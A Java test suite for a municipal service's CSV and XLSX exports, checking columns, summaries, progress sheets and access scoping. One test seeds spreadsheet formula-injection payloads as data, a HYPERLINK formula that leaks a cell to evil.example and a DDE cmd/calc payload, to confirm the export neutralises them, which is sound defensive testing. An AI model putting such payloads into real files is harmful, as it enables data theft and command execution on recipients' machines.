package nl.wmebv.service.export;

import static org.assertj.core.api.Assertions.assertThat;

import io.dropwizard.testing.junit5.DropwizardAppExtension;
import io.dropwizard.testing.junit5.DropwizardExtensionsSupport;
import java.io.ByteArrayInputStream;
import java.io.InputStreamReader;
import java.io.Reader;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.temporal.IsoFields;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import nl.wmebv.service.TestApps;
import nl.wmebv.service.TestDatabase;
import nl.wmebv.service.TestUsers;
import nl.wmebv.service.config.WmebvConfiguration;
import nl.wmebv.service.core.auth.Role;
import nl.wmebv.service.core.municipality.MunicipalityService;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.jdbi.v3.core.Handle;
import org.jdbi.v3.core.Jdbi;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The CSV and XLSX downloads, read back with commons-csv and fastexcel-reader; the summary's
 * numbers are checked against a direct SQL count, and the weekly progress against history written
 * three weeks back.
 */
@ExtendWith(DropwizardExtensionsSupport.class)
class ExportTest {
  private static final TestDatabase DB = TestDatabase.createMigrated();
  private static final ZoneId AMSTERDAM = ZoneId.of("Europe/Amsterdam");

  static final DropwizardAppExtension<WmebvConfiguration> APP =
      TestApps.app(DB, "scheduler.enabled", "false");

  private static long municipality;
  private static long burgerzaken;
  private static long belastingen;

  @BeforeAll
  static void setUp() {
    Jdbi jdbi = DB.jdbi();
    municipality =
        new MunicipalityService(jdbi).create("Voorbeeldstad", "https://www.voorbeeldstad.nl").id();
    long other = new MunicipalityService(jdbi).create("Anderdorp", "https://www.anderdorp.nl").id();
    TestUsers.create(jdbi, "kijker", Role.VIEWER);
    jdbi.useHandle(
        h -> {
          burgerzaken = cluster(h, municipality, "Burgerzaken");
          belastingen = cluster(h, municipality, "Belastingen");
          long site =
              h.createQuery("SELECT id FROM site WHERE municipality_id = :m")
                  .bind("m", municipality)
                  .mapTo(Long.class)
                  .one();
          long oldRun =
              h.createQuery(
                      """
          INSERT INTO crawl_run (site_id, status, started_at, finished_at)
          VALUES (:s, 'FINISHED', now() - interval '21 days', now() - interval '21 days') RETURNING id""")
                  .bind("s", site)
                  .mapTo(Long.class)
                  .one();
          // A: digital from the start; B: detector says not digital, a person decided DIGITAL a
          // week ago
          long a =
              product(h, site, "Paspoort aanvragen", "/paspoort", burgerzaken, "DIGITAL", true, 21);
          long b =
              product(
                  h,
                  site,
                  "Verhuizing doorgeven",
                  "/verhuizing",
                  burgerzaken,
                  "NOT_DIGITAL",
                  true,
                  21);
          BackdatedRows.observe(h, a, oldRun, "DIGITAL", 21);
          BackdatedRows.observe(h, b, oldRun, "NOT_DIGITAL", 21);
          h.execute("UPDATE product SET channel_status_override = 'DIGITAL' WHERE id = ?", b);
          h.execute(
              """
          INSERT INTO audit_event (municipality_id, product_id, entity_type, entity_id, event, actor, changes, at)
          VALUES (?, ?, 'product', ?, 'product.updated', 'consultent',
                  '{"channelStatusOverride": {"from": null, "to": "DIGITAL"}}', now() - interval '7 days')""",
              municipality,
              b,
              b);
          // C: broken form, two actions; D: out of scope
          long c =
              product(h, site, "Kwijtschelding", "/kwijtschelding", belastingen, "BROKEN", true, 2);
          product(h, site, "Hondenbelasting", "/hondenbelasting", belastingen, "NONE", false, 2);
          action(h, c, "REPAIR_LINK", "Team Belastingen", "2026-12-31", "OPEN");
          action(h, c, "REWRITE_TEXT", "Webredactie", "2027-02-01", "IN_PROGRESS");
          action(h, a, "NONE", null, null, "DONE");
          h.execute("UPDATE product SET text_status = 'APPROVED' WHERE id = ?", a);
          h.execute(
              "UPDATE product SET text_status = 'NEEDS_REWRITING', needs_review = true WHERE id = ?",
              c);
          // E: no cluster, scope undecided, awkward text
          long e = product(h, site, "Ééndagsvergunning", "/eendags", null, "DIGITAL", null, 0);
          h.execute(
              "UPDATE product SET notes = ?, message_types = '{aanvraag,bezwaar}' WHERE id = ?",
              "Let op; \"dubbel\"\nnieuwe regel",
              e);
          // another municipality's product must never show
          long otherSite =
              h.createQuery("SELECT id FROM site WHERE municipality_id = :m")
                  .bind("m", other)
                  .mapTo(Long.class)
                  .one();
          product(h, otherSite, "Geheim product", "/geheim", null, "DIGITAL", true, 0);
        });
  }

  @AfterAll
  static void tearDown() {
    DB.close();
  }

  @Test
  void aCellThatLooksLikeAFormulaIsTextInTheCsvAndAStringInTheXlsx() throws Exception {
    String title = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")";
    String note = " \"@SUM(1+1)";
    long m =
        new MunicipalityService(DB.jdbi()).create("Formuledorp", "https://www.formuledorp.nl").id();
    DB.jdbi()
        .useHandle(
            h -> {
              long site =
                  h.createQuery("SELECT id FROM site WHERE municipality_id = :m")
                      .bind("m", m)
                      .mapTo(Long.class)
                      .one();
              long p =
                  product(
                      h, site, title, "/formule", cluster(h, m, "Burgerzaken"), "DIGITAL", true, 0);
              h.execute("UPDATE product SET notes = ? WHERE id = ?", note, p);
              action(h, p, "REWRITE_TEXT", "\t=cmd|' /C calc'!A0", "2026-12-31", "OPEN");
            });

    CSVRecord row = parseCsv(download("/api/municipalities/" + m + "/export.csv").body()).get(1);
    assertThat(row.get(1)).isEqualTo("'" + title);
    assertThat(row.get(17)).isEqualTo("'" + note);
    assertThat(row.get(12)).isEqualTo("'\t=cmd|' /C calc'!A0");
    assertThat(row.get(3)).as("ordinary text is untouched").isEqualTo("Burgerzaken");

    Row xlsx =
        readXlsx(download("/api/municipalities/" + m + "/export.xlsx").body())
            .get("Burgerzaken")
            .stream()
            .filter(r -> title.equals(r.getCellText(1)))
            .findFirst()
            .orElseThrow();
    assertThat(xlsx.getCell(1).getType())
        .as("a string cell, never a formula")
        .isEqualTo(org.dhatim.fastexcel.reader.CellType.STRING);
  }

  @Test
  void theCsvHasABomSemicolonsAndOneLinePerProduct() throws Exception {
    HttpResponse<byte[]> r = download("/api/municipalities/" + municipality + "/export.csv");
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(r.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
    assertThat(r.headers().firstValue("Content-Disposition").orElse(""))
        .isEqualTo(
            "attachment; filename=\"wmebv-voorbeeldstad-" + LocalDate.now(AMSTERDAM) + ".csv\"");
    byte[] body = r.body();
    assertThat(body).startsWith(0xEF, 0xBB, 0xBF);

    List<CSVRecord> records = parseCsv(body);
    assertThat(records.get(0).values())
        .containsExactly(
            "Nr.",
            "Product",
            "Uniforme productnaam",
            "Cluster",
            "Pagina-URL",
            "Kanaal gedetecteerd",
            "Kanaal besluit",
            "Kanaalstatus",
            "Bewijs-URL",
            "Valt onder WMEBV",
            "Berichtsoorten",
            "Actie",
            "Eigenaar",
            "Deadline",
            "Actiestatus",
            "Tekststatus",
            "Te beoordelen",
            "Notities",
            "Afwijkingen",
            "Producteigenaar (e-mail)");
    Map<String, CSVRecord> byName = new LinkedHashMap<>();
    records.stream().skip(1).forEach(rec -> byName.put(rec.get(1), rec));
    assertThat(byName.keySet())
        .containsExactly(
            "Paspoort aanvragen",
            "Verhuizing doorgeven",
            "Hondenbelasting",
            "Kwijtschelding",
            "Ééndagsvergunning");

    CSVRecord b = byName.get("Verhuizing doorgeven");
    assertThat(List.of(b.get(3), b.get(5), b.get(6), b.get(7), b.get(9)))
        .containsExactly(
            "Burgerzaken",
            "Alleen niet-digitaal",
            "Digitaal kanaal werkt",
            "Digitaal kanaal werkt",
            "ja");
    CSVRecord c = byName.get("Kwijtschelding");
    assertThat(c.get(8)).isEqualTo("https://formulieren.voorbeeldstad.nl/kwijtschelding");
    assertThat(List.of(c.get(7), c.get(11), c.get(12), c.get(13), c.get(14), c.get(15), c.get(16)))
        .as("the leading action: the open one with the first deadline")
        .containsExactly(
            "Aanwezig, niet in orde",
            "Kapotte link herstellen",
            "Team Belastingen",
            "31-12-2026",
            "Open",
            "Moet herschreven",
            "ja");
    CSVRecord e = byName.get("Ééndagsvergunning");
    assertThat(List.of(e.get(3), e.get(9), e.get(10), e.get(17)))
        .containsExactly(
            "(geen cluster)", "", "Aanvraag, Bezwaarschrift", "Let op; \"dubbel\"\nnieuwe regel");
    assertThat(byName.get("Hondenbelasting").get(9)).isEqualTo("nee");

    HttpResponse<byte[]> one =
        download("/api/municipalities/" + municipality + "/export.csv?cluster=" + burgerzaken);
    assertThat(one.headers().firstValue("Content-Disposition").orElse(""))
        .contains("wmebv-voorbeeldstad-burgerzaken-" + LocalDate.now(AMSTERDAM) + ".csv");
    assertThat(parseCsv(one.body()).stream().skip(1).map(rec -> rec.get(1)))
        .containsExactly("Paspoort aanvragen", "Verhuizing doorgeven");
  }

  @Test
  void theXlsxHasASummaryASheetPerClusterAndWeeklyProgress() throws Exception {
    HttpResponse<byte[]> r = download("/api/municipalities/" + municipality + "/export.xlsx");
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(r.headers().firstValue("Content-Disposition").orElse(""))
        .isEqualTo(
            "attachment; filename=\"wmebv-voorbeeldstad-" + LocalDate.now(AMSTERDAM) + ".xlsx\"");

    Map<String, List<Row>> sheets = readXlsx(r.body());
    List<String> clusters =
        DB.jdbi()
            .withHandle(
                h ->
                    h.createQuery(
                            "SELECT name FROM cluster WHERE municipality_id = :m ORDER BY position, name")
                        .bind("m", municipality)
                        .mapTo(String.class)
                        .list());
    List<String> expectedSheets = new ArrayList<>(List.of("Samenvatting"));
    expectedSheets.addAll(clusters);
    // in-scope products and no designated channel yet: the designation checks get a sheet of their
    // own
    expectedSheets.addAll(List.of("(geen cluster)", "Voortgang", "Acties", "Aanwijzing controles"));
    assertThat(sheets.keySet()).containsExactlyElementsOf(expectedSheets);
    List<String> checked =
        sheets.get("Aanwijzing controles").stream()
            .skip(1)
            .filter(row -> "Product in scope zonder aangewezen kanaal".equals(row.getCellText(0)))
            .map(row -> row.getCellText(1))
            .toList();
    List<String> inScope =
        DB.jdbi()
            .withHandle(
                h ->
                    h.createQuery(
                            "SELECT name FROM product WHERE municipality_id = :m AND in_scope")
                        .bind("m", municipality)
                        .mapTo(String.class)
                        .list());
    assertThat(checked).containsExactlyInAnyOrderElementsOf(inScope);

    // the summary equals a direct count in SQL, cluster by cluster
    Map<String, List<Long>> expected = directSummary();
    List<Row> summary = sheets.get("Samenvatting");
    assertThat(summary.get(0).getCellText(0)).isEqualTo("Cluster");
    Map<String, List<Long>> actual = new LinkedHashMap<>();
    for (Row row : summary.subList(1, summary.size() - 1)) {
      List<Long> numbers = new ArrayList<>();
      for (int col : new int[] {1, 2, 3, 5, 6, 7, 8, 9, 10, 11}) {
        numbers.add(row.getCellAsNumber(col).orElseThrow().longValueExact());
      }
      actual.put(row.getCellText(0), numbers);
    }
    assertThat(actual).isEqualTo(expected);
    Row total = summary.get(summary.size() - 1);
    assertThat(total.getCellText(0)).isEqualTo("Totaal");
    assertThat(total.getCellAsNumber(1).orElseThrow()).isEqualByComparingTo("5");
    assertThat(total.getCellAsNumber(2).orElseThrow()).isEqualByComparingTo("3");
    assertThat(total.getCellAsNumber(3).orElseThrow()).isEqualByComparingTo("2");
    Row bz =
        summary.stream()
            .filter(row -> "Burgerzaken".equals(row.getCellText(0)))
            .findFirst()
            .orElseThrow();
    assertThat(bz.getCellAsNumber(4).orElseThrow()).isEqualByComparingTo(BigDecimal.ONE);

    List<Row> belasting = sheets.get("Belastingen");
    assertThat(belasting).hasSize(3);
    Row kwijtschelding = belasting.get(2);
    assertThat(kwijtschelding.getCellText(1)).isEqualTo("Kwijtschelding");
    assertThat(kwijtschelding.getCellAsDate(13).orElseThrow().toLocalDate())
        .isEqualTo(LocalDate.of(2026, 12, 31));
    assertThat(zipEntry(r.body(), "xl/styles.xml"))
        .as("date cells (deadline, week start) shown the Dutch way")
        .contains("formatCode=\"dd-mm-yyyy\"")
        .doesNotContain("yyyy-mm-dd");
    assertThat(kwijtschelding.getCellText(12)).isEqualTo("Team Belastingen");

    // weekly progress of Burgerzaken: 1 of 2 three weeks ago, 2 of 2 since the decision a week ago
    LocalDate today = LocalDate.now(AMSTERDAM);
    Map<String, String> burgerzakenWeeks = new LinkedHashMap<>();
    for (Row row : sheets.get("Voortgang").subList(1, sheets.get("Voortgang").size())) {
      if ("Burgerzaken".equals(row.getCellText(2))) {
        burgerzakenWeeks.put(row.getCellText(0), row.getCellText(4) + "/" + row.getCellText(3));
      }
    }
    assertThat(burgerzakenWeeks)
        .containsEntry(isoWeek(today.minusDays(21)), "1/2")
        .containsEntry(isoWeek(today.minusDays(7)), "2/2")
        .containsEntry(isoWeek(today), "2/2");
    assertThat(burgerzakenWeeks.keySet().iterator().next()).isEqualTo(isoWeek(today.minusDays(21)));

    // frozen header rows and auto-filters, in the sheet XML itself
    String sheetXml = zipEntry(r.body(), "xl/worksheets/sheet3.xml");
    assertThat(sheetXml).contains("<pane").contains("state=\"frozen\"").contains("<autoFilter");
  }

  @Test
  void aClusterExportHasOnlyThatClusterAndUnknownScopesAre404() throws Exception {
    HttpResponse<byte[]> r =
        download("/api/municipalities/" + municipality + "/export.xlsx?cluster=" + belastingen);
    assertThat(r.headers().firstValue("Content-Disposition").orElse(""))
        .contains("wmebv-voorbeeldstad-belastingen-");
    Map<String, List<Row>> sheets = readXlsx(r.body());
    assertThat(sheets.keySet())
        .startsWith("Samenvatting", "Belastingen", "Voortgang")
        .doesNotContain("Burgerzaken", "(geen cluster)");
    assertThat(sheets.get("Samenvatting")).hasSize(2);
    assertThat(sheets.get("Belastingen")).hasSize(3);
    assertThat(sheets.get("Acties").stream().skip(1).map(row -> row.getCellText(0)))
        .as("the actions of the cluster's products only")
        .containsExactly("Kwijtschelding", "Kwijtschelding");

    long otherCluster =
        DB.jdbi()
            .withHandle(
                h ->
                    h.createQuery(
                            "SELECT c.id FROM cluster c JOIN municipality m ON m.id = c.municipality_id WHERE m.name = 'Anderdorp' LIMIT 1")
                        .mapTo(Long.class)
                        .one());
    assertThat(
            download("/api/municipalities/" + municipality + "/export.csv?cluster=" + otherCluster)
                .statusCode())
        .isEqualTo(404);
    assertThat(download("/api/municipalities/999999/export.xlsx").statusCode()).isEqualTo(404);
    assertThat(download("/api/municipalities/" + municipality + "/export.pdf").statusCode())
        .isEqualTo(404);
  }

  @Test
  void theExportsListTheDiscrepanciesBetweenTheScFeedAndTheCrawl() throws Exception {
    long feedstad =
        new MunicipalityService(DB.jdbi()).create("Feedstad", "https://www.feedstad.nl").id();
    DB.jdbi()
        .useHandle(
            h -> {
              long site =
                  h.createQuery("SELECT id FROM site WHERE municipality_id = :m")
                      .bind("m", feedstad)
                      .mapTo(Long.class)
                      .one();
              long bz = cluster(h, feedstad, "Burgerzaken");
              long declaredWrong =
                  product(h, site, "Paspoort aanvragen", "/f/paspoort", bz, "DIGITAL", true, 0);
              long declaredRight =
                  product(h, site, "Rijbewijs aanvragen", "/f/rijbewijs", bz, "DIGITAL", true, 0);
              product(h, site, "Hondenbelasting", "/f/hond", null, "NONE", false, 0);
              h.execute(
                  """
          UPDATE product SET feed_page_url = 'https://www.feedstad.nl/paspoort', feed_online_aanvragen = 'nee',
                 feed_aanvraag_url = 'https://www.digid.nl/aanvragen' WHERE id = ?""",
                  declaredWrong);
              h.execute(
                  """
          UPDATE product SET feed_page_url = 'https://www.feedstad.nl/rijbewijs', feed_online_aanvragen = 'ja'
          WHERE id = ?""",
                  declaredRight);
            });
    String noButDigital =
        "Feed zegt 'niet online aan te vragen', maar de pagina biedt een werkend digitaal kanaal";
    String digid =
        "Aanvraag-URL in de feed verwijst naar digid.nl in plaats van naar een formulier";

    List<CSVRecord> csv =
        parseCsv(download("/api/municipalities/" + feedstad + "/export.csv").body());
    assertThat(csv.get(0).get(18)).isEqualTo("Afwijkingen");
    Map<String, String> column = new LinkedHashMap<>();
    csv.stream().skip(1).forEach(rec -> column.put(rec.get(1), rec.get(18)));
    assertThat(column)
        .containsEntry("Paspoort aanvragen", noButDigital + " | " + digid)
        .containsEntry("Rijbewijs aanvragen", "")
        .containsEntry("Hondenbelasting", "");

    Map<String, List<Row>> sheets =
        readXlsx(download("/api/municipalities/" + feedstad + "/export.xlsx").body());
    assertThat(List.copyOf(sheets.keySet()))
        .containsSubsequence("Voortgang", "Acties", "Afwijkingen catalogus");
    Row paspoort =
        sheets.get("Burgerzaken").stream()
            .filter(r -> "Paspoort aanvragen".equals(r.getCellText(1)))
            .findFirst()
            .orElseThrow();
    assertThat(sheets.get("Burgerzaken").get(0).getCellText(18)).isEqualTo("Afwijkingen");
    assertThat(paspoort.getCellText(18)).isEqualTo(noButDigital + " | " + digid);
    List<Row> sheet = sheets.get("Afwijkingen catalogus");
    assertThat(cells(sheet.get(0), 5))
        .containsExactly("Product", "Cluster", "Afwijking", "Feed zegt", "Crawl vond");
    assertThat(sheet).hasSize(3);
    assertThat(cells(sheet.get(1), 5))
        .containsExactly(
            "Paspoort aanvragen",
            "Burgerzaken",
            noButDigital,
            "onlineAanvragen: nee; aanvraagURL: https://www.digid.nl/aanvragen",
            "kanaal: werkend digitaal kanaal (crawl)");
    assertThat(cells(sheet.get(2), 5))
        .containsExactly(
            "Paspoort aanvragen",
            "Burgerzaken",
            digid,
            "aanvraagURL: https://www.digid.nl/aanvragen",
            "verwijst naar digid.nl (DigiD aanvragen), niet naar een formulier");

    // a cluster export lists only its own products' discrepancies
    long belasting = DB.jdbi().withHandle(h -> cluster(h, feedstad, "Belastingen"));
    Map<String, List<Row>> other =
        readXlsx(
            download("/api/municipalities/" + feedstad + "/export.xlsx?cluster=" + belasting)
                .body());
    assertThat(other.get("Afwijkingen catalogus")).hasSize(1);
  }

  @Test
  void anExportLeavesNoReadOnlyConnectionInThePool() throws Exception {
    TestUsers.create(DB.jdbi(), "beheerder", Role.ADMIN);
    assertThat(download("/api/municipalities/" + municipality + "/export.csv").statusCode())
        .isEqualTo(200);
    // writes in a transaction on whichever pooled connections come next, the export's among them
    for (int i = 0; i < 5; i++) {
      HttpRequest request =
          HttpRequest.newBuilder(
                  URI.create("http://localhost:" + APP.getLocalPort() + "/api/municipalities"))
              .header("Authorization", TestUsers.basic("beheerder"))
              .header("Content-Type", "application/json")
              .POST(
                  HttpRequest.BodyPublishers.ofString(
                      "{\"name\": \"Na export "
                          + i
                          + "\", \"baseUrl\": \"https://www.naexport"
                          + i
                          + ".nl\"}"))
              .build();
      assertThat(
              HttpClient.newHttpClient()
                  .send(request, HttpResponse.BodyHandlers.ofString())
                  .statusCode())
          .isEqualTo(201);
    }
  }

  private static List<String> cells(Row row, int n) {
    List<String> out = new ArrayList<>();
    for (int i = 0; i < n; i++) {
      out.add(row.getCellText(i));
    }
    return out;
  }

  /**
   * Per cluster (by name): products, in scope, working digital, open, in progress, done actions,
   * text counts.
   */
  private static Map<String, List<Long>> directSummary() {
    return DB.jdbi()
        .withHandle(
            h -> {
              Map<String, List<Long>> m = new LinkedHashMap<>();
              h.createQuery(
                      """
          SELECT COALESCE(c.name, '(geen cluster)') AS name,
                 (SELECT count(*) FROM product p WHERE p.municipality_id = :m AND p.cluster_id IS NOT DISTINCT FROM c.id),
                 (SELECT count(*) FROM product p WHERE p.municipality_id = :m AND p.cluster_id IS NOT DISTINCT FROM c.id
                    AND p.in_scope),
                 (SELECT count(*) FROM product p WHERE p.municipality_id = :m AND p.cluster_id IS NOT DISTINCT FROM c.id
                    AND p.in_scope AND (p.channel_status_override = 'DIGITAL'
                      OR (p.channel_status_override IS NULL AND p.detected_channel_status = 'DIGITAL'))),
                 (SELECT count(*) FROM action a JOIN product p ON p.id = a.product_id WHERE p.municipality_id = :m
                    AND p.cluster_id IS NOT DISTINCT FROM c.id AND a.status = 'OPEN'),
                 (SELECT count(*) FROM action a JOIN product p ON p.id = a.product_id WHERE p.municipality_id = :m
                    AND p.cluster_id IS NOT DISTINCT FROM c.id AND a.status = 'IN_PROGRESS'),
                 (SELECT count(*) FROM action a JOIN product p ON p.id = a.product_id WHERE p.municipality_id = :m
                    AND p.cluster_id IS NOT DISTINCT FROM c.id AND a.status = 'DONE'),
                 (SELECT count(*) FROM product p WHERE p.municipality_id = :m AND p.cluster_id IS NOT DISTINCT FROM c.id
                    AND p.text_status = 'NOT_REVIEWED'),
                 (SELECT count(*) FROM product p WHERE p.municipality_id = :m AND p.cluster_id IS NOT DISTINCT FROM c.id
                    AND p.text_status = 'NEEDS_REWRITING'),
                 (SELECT count(*) FROM product p WHERE p.municipality_id = :m AND p.cluster_id IS NOT DISTINCT FROM c.id
                    AND p.text_status = 'REWRITTEN'),
                 (SELECT count(*) FROM product p WHERE p.municipality_id = :m AND p.cluster_id IS NOT DISTINCT FROM c.id
                    AND p.text_status = 'APPROVED')
          FROM (SELECT id, name, position FROM cluster WHERE municipality_id = :m
                UNION ALL SELECT NULL, NULL, NULL) c
          ORDER BY c.position NULLS LAST, c.name""")
                  .bind("m", municipality)
                  .map(
                      (rs, ctx) -> {
                        List<Long> v = new ArrayList<>();
                        for (int i = 2; i <= 11; i++) {
                          v.add(rs.getLong(i));
                        }
                        m.put(rs.getString(1), v);
                        return null;
                      })
                  .list();
              return m;
            });
  }

  private static String isoWeek(LocalDate d) {
    return String.format(
        "%d-W%02d", d.get(IsoFields.WEEK_BASED_YEAR), d.get(IsoFields.WEEK_OF_WEEK_BASED_YEAR));
  }

  private static long cluster(Handle h, long m, String name) {
    return h.createQuery("SELECT id FROM cluster WHERE municipality_id = :m AND name = :n")
        .bind("m", m)
        .bind("n", name)
        .mapTo(Long.class)
        .one();
  }

  private static long product(
      Handle h,
      long site,
      String name,
      String path,
      Long cluster,
      String detected,
      Boolean inScope,
      int daysAgo) {
    String slug = path.substring(1);
    long page =
        h.createQuery(
                """
        INSERT INTO page (site_id, url, http_status, title, is_product, channel_status, analysis)
        VALUES (:s, :u, 200, :t, true, :c, CAST(:a AS jsonb)) RETURNING id""")
            .bind("s", site)
            .bind("u", "https://www.voorbeeldstad.nl" + path)
            .bind("t", name)
            .bind("c", detected)
            .bind(
                "a",
                "{\"channelStatus\": \""
                    + detected
                    + "\", \"channels\": ["
                    + "{\"type\": \"PRINT_FORM\", \"target\": \"https://www.voorbeeldstad.nl/"
                    + slug
                    + ".pdf\"},"
                    + "{\"type\": \"EFORM_DIGID\", \"target\": \"https://formulieren.voorbeeldstad.nl/"
                    + slug
                    + "\","
                    + " \"check\": {\"ok\": "
                    + !"BROKEN".equals(detected)
                    + ", \"status\": 200}}]}")
            .mapTo(Long.class)
            .one();
    return BackdatedRows.product(h, site, page, name, cluster, detected, inScope, daysAgo);
  }

  private static void action(
      Handle h, long product, String type, String owner, String deadline, String status) {
    h.createUpdate(
            """
        INSERT INTO action (product_id, type, owner, deadline, status)
        VALUES (:p, :t, :o, CAST(:d AS date), :s)""")
        .bind("p", product)
        .bind("t", type)
        .bind("o", owner)
        .bind("d", deadline)
        .bind("s", status)
        .execute();
  }

  private static List<CSVRecord> parseCsv(byte[] body) throws Exception {
    try (Reader reader =
        new InputStreamReader(
            new ByteArrayInputStream(body, 3, body.length - 3), StandardCharsets.UTF_8)) {
      List<CSVRecord> records =
          CSVFormat.EXCEL.builder().setDelimiter(';').get().parse(reader).getRecords();
      // the first line is the export stamp the import reads back; the tests read from the headings
      // on
      assertThat(records.get(0).get(0)).startsWith("Geëxporteerd op ");
      return records.subList(1, records.size());
    }
  }

  private static Map<String, List<Row>> readXlsx(byte[] body) throws Exception {
    Map<String, List<Row>> sheets = new LinkedHashMap<>();
    try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(body))) {
      for (Sheet sheet : wb.getSheets().toList()) {
        sheets.put(sheet.getName(), sheet.read());
      }
    }
    return sheets;
  }

  private static String zipEntry(byte[] zip, String name) throws Exception {
    java.nio.file.Path file = java.nio.file.Files.createTempFile("export", ".xlsx");
    try {
      java.nio.file.Files.write(file, zip);
      try (java.util.zip.ZipFile z = new java.util.zip.ZipFile(file.toFile())) {
        var entry = z.getEntry(name);
        assertThat(entry).as(name).isNotNull();
        return new String(z.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
      }
    } finally {
      java.nio.file.Files.deleteIfExists(file);
    }
  }

  private static HttpResponse<byte[]> download(String path) throws Exception {
    HttpRequest request =
        HttpRequest.newBuilder(URI.create("http://localhost:" + APP.getLocalPort() + path))
            .header("Authorization", TestUsers.basic("kijker"))
            .GET()
            .build();
    return HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofByteArray());
  }
}
